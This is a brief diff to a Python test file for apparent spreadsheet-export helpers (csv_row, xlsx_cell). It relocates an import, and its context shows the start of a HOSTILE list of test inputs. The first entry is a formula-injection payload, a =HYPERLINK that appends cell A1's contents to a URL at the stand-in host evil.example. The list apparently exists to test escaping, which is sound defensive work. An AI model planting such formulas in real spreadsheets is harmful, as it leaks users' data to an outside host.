@@ -9,8 +9,8 @@ from pathlib import Path
 import pytest
 from openpyxl import Workbook, load_workbook
 
-from equiserve.registry.tests.factories import XIAOLAN, make_person
 from equiserve.spreadsheets import csv_row, xlsx_cell, xlsx_row
+from equiserve.testkit import XIAOLAN, make_person
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
